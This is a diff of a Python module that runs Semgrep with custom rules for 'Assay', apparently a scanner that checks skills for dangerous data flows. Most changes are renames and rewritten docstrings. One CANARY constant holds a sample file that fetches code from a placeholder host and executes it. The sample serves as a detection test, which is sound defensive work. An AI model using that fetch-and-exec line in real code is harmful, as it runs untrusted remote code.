@@ -1,4 +1,4 @@
-"""Semgrep, with the rules of Assay: flows from where something comes in to where it does harm."""
+"""Semgrep with Assay's own rules, which follow data flows from sources to dangerous sinks."""
 
 import hashlib
 from importlib.resources import files
@@ -7,65 +7,57 @@ from typing import Any
 
 import msgspec
 
-from assay.deepscan.excerpt import LONGEST_MESSAGE, LONGEST_NAME, plain
-from assay.deepscan.tool import Reading, Tool, ToolFailed
-from assay.deepscan.tools.environment import variables, version_of
+from assay.deepscan.excerpt import LONGEST_MESSAGE, LONGEST_NAME, printable_line
+from assay.deepscan.install import environment_variables, installed_version
+from assay.deepscan.tool import Tool, ToolFailed, ToolReport
 from assay.model.deep_scan import DeepTool
 from assay.model.finding import Finding, Severity
 
 RULES = Path(str(files("assay.deepscan").joinpath("rules")))
 KINDS = frozenset({"py", "js", "ts", "jsx", "tsx", "sh"})
 CANARY = ("canary.py", b'import requests\nexec(requests.get("https://canary.invalid/x").text)\n')
-# What is wrong with the file and not with the tool: a program that does not parse is no program for Semgrep.
+# Error types that mean the file, not the tool, is at fault: it does not parse.
 UNPARSED = ("syntax", "parse", "parsing", "lexical", "otherparseerror", "astbuilder")
 FILE_SECONDS, STRIKES, LARGEST_FILE = 20, 2, 2_000_000
 SEVERITIES = {"ERROR": Severity.HIGH, "WARNING": Severity.MEDIUM, "INFO": Severity.LOW}
 CONFIDENCE = 0.6
-REMEDIATION = "Remove it, or do it in a way that whoever runs the skill can read and check."
+REMEDIATION = "Remove this code, or write it so that users of the skill can read and verify it."
 
 
-class Position(msgspec.Struct):
-    """Where a match begins."""
-
+class _SemgrepPosition(msgspec.Struct):
     line: int
 
 
-class Extra(msgspec.Struct):
-    """What the rule says."""
-
+class _SemgrepExtra(msgspec.Struct):
     message: str = ""
     severity: str = "WARNING"
     metadata: dict[str, Any] = {}
 
 
-class Match(msgspec.Struct):
-    """One match."""
-
+class _SemgrepMatch(msgspec.Struct):
     check_id: str
     path: str
-    start: Position
-    extra: Extra
+    start: _SemgrepPosition
+    extra: _SemgrepExtra
 
 
-class Problem(msgspec.Struct):
-    """Something that Semgrep could not do."""
-
+class SemgrepError(msgspec.Struct):
     message: str = ""
     path: str | None = None
     type: Any = None
     level: str = "error"
 
 
-class Output(msgspec.Struct):
-    """The parts of its JSON that are read."""
+class _SemgrepOutput(msgspec.Struct):
+    """The used fields of its JSON report."""
 
-    results: list[Match]
-    errors: list[Problem]
+    results: list[_SemgrepMatch]
+    errors: list[SemgrepError]
 
 
 def semgrep(folder: Path, jobs: int) -> Tool | None:
-    """Semgrep as it is installed in this environment; None if it is not."""
-    version = version_of(folder, "semgrep")
+    """Return Semgrep as installed in this environment, or None."""
+    version = installed_version(folder, "semgrep")
     if version is None:
         return None
     arguments = (
@@ -76,47 +68,48 @@ def semgrep(folder: Path, jobs: int) -> Tool | None:
     return Tool(
         name=DeepTool.SEMGREP,
         version=f"{version}+rules.{rules_version()}",
-        program=lambda _place: [str(folder / "bin" / "semgrep"), *arguments.split(), "--config", str(RULES), "."],
+        program=lambda _workspace: [str(folder / "bin" / "semgrep"), *arguments.split(), "--config", str(RULES), "."],
         read=read,
-        good_exits=frozenset({0, 1}),
+        success_codes=frozenset({0, 1}),
         kinds=KINDS,
         canary=CANARY,
-        environment=variables(folder) | {"SEMGREP_SEND_METRICS": "off", "SEMGREP_ENABLE_VERSION_CHECK": "0"},
+        environment=environment_variables(folder)
+        | {"SEMGREP_SEND_METRICS": "off", "SEMGREP_ENABLE_VERSION_CHECK": "0"},
         readable=[folder, RULES],
     )
 
 
 def rules_version() -> str:
-    """Changes when a rule does."""
+    """Return a digest of all rules."""
     content = b"".join(file.read_bytes() for file in sorted(RULES.glob("*.yaml")))
     return hashlib.sha256(content).hexdigest()[:8]
 
 
-def read(output: bytes) -> Reading:
-    """Matches and problems by file."""
+def read(output: bytes) -> ToolReport:
+    """Parse the report of Semgrep."""
     try:
-        said = msgspec.json.decode(output, type=Output)
-    except msgspec.DecodeError as problem:
-        raise ToolFailed(f"its report cannot be read: {problem}") from None
-    reading = Reading([(_name(match.path), _finding(match)) for match in said.results])
-    note_problems(said.errors, reading)
-    return reading
+        decoded = msgspec.json.decode(output, type=_SemgrepOutput)
+    except msgspec.DecodeError as error:
+        raise ToolFailed(f"its report cannot be read: {error}") from None
+    report = ToolReport([(_name(match.path), _finding(match)) for match in decoded.results])
+    add_errors(decoded.errors, report)
+    return report
 
 
-def note_problems(problems: list[Problem], reading: Reading) -> None:
-    """A file that is no program is a finding; one that took too long, or too much, has not been examined."""
-    for problem in problems:
-        if problem.path is None:
-            raise ToolFailed(plain(problem.message, LONGEST_MESSAGE) or "it names no reason")
-        kind = str(problem.type[0] if isinstance(problem.type, list) and problem.type else problem.type).lower()
+def add_errors(errors: list[SemgrepError], report: ToolReport) -> None:
+    """Record a file that does not parse as a finding, and any other error of a file as a failure to examine it."""
+    for error in errors:
+        if error.path is None:
+            raise ToolFailed(printable_line(error.message, LONGEST_MESSAGE) or "it gave no reason")
+        kind = str(error.type[0] if isinstance(error.type, list) and error.type else error.type).lower()
         if any(word in kind for word in UNPARSED):
-            reading.findings.append((_name(problem.path), unparsed()))
+            report.findings.append((_name(error.path), unparsed_finding()))
         else:
-            reading.failures.append((_name(problem.path), plain(f"{kind}: {problem.message}", LONGEST_MESSAGE)))
+            report.failures.append((_name(error.path), printable_line(f"{kind}: {error.message}", LONGEST_MESSAGE)))
 
 
-def unparsed() -> Finding:
-    """What is said of a file that the tool could not read as a program."""
+def unparsed_finding() -> Finding:
+    """Build the finding for a file that the tool could not parse."""
     return Finding(
         rule_id="assay.unparsed",
         family="unexamined",
@@ -125,28 +118,28 @@ def unparsed() -> Finding:
         file="",
         line=1,
         excerpt="",
-        message="This file, or a part of it, is no program that the tool can read, so it was not looked at.",
-        remediation="Correct its syntax, or name it by what it is.",
+        message="The tool could not parse this file or a part of it, so it was not examined.",
+        remediation="Correct its syntax, or give it the suffix of its actual type.",
     )
 
 
-def _finding(match: Match) -> Finding:
-    said = match.extra.metadata
+def _finding(match: _SemgrepMatch) -> Finding:
+    metadata = match.extra.metadata
     severity = SEVERITIES.get(match.extra.severity, Severity.MEDIUM)
-    if said.get("assay-severity") in set(Severity):
-        severity = Severity(said["assay-severity"])
-    # Semgrep reads no fractions in rules.
-    percent = said.get("assay-percent")
+    if metadata.get("assay-severity") in set(Severity):
+        severity = Severity(metadata["assay-severity"])
+    # A percentage, because Semgrep accepts no fractions in rules.
+    percent = metadata.get("assay-percent")
     return Finding(
-        rule_id=plain(match.check_id.rpartition(".rules.")[2] or match.check_id, LONGEST_NAME),
-        family=plain(str(said.get("family", "code")), LONGEST_NAME),
+        rule_id=printable_line(match.check_id.rpartition(".rules.")[2] or match.check_id, LONGEST_NAME),
+        family=printable_line(str(metadata.get("family", "code")), LONGEST_NAME),
         severity=severity,
         confidence=percent / 100 if isinstance(percent, int) and 0 <= percent <= 100 else CONFIDENCE,
         file="",
         line=max(1, match.start.line),
         excerpt="",
-        message=plain(match.extra.message, LONGEST_MESSAGE),
-        remediation=plain(str(said.get("remediation", REMEDIATION)), LONGEST_MESSAGE),
+        message=printable_line(match.extra.message, LONGEST_MESSAGE),
+        remediation=printable_line(str(metadata.get("remediation", REMEDIATION)), LONGEST_MESSAGE),
     )
 
 
